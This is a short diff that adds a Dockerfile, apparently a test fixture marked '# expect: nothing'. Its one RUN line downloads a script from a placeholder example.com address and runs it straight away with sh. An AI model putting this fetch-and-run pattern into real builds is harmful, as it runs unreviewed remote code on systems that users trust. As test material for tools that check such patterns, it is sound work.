@@ -1,0 +1,3 @@
+FROM debian:bookworm-slim
+RUN curl -fsSLo /srv/run.sh https://example.com/run.sh && sh /srv/run.sh
+# expect: nothing
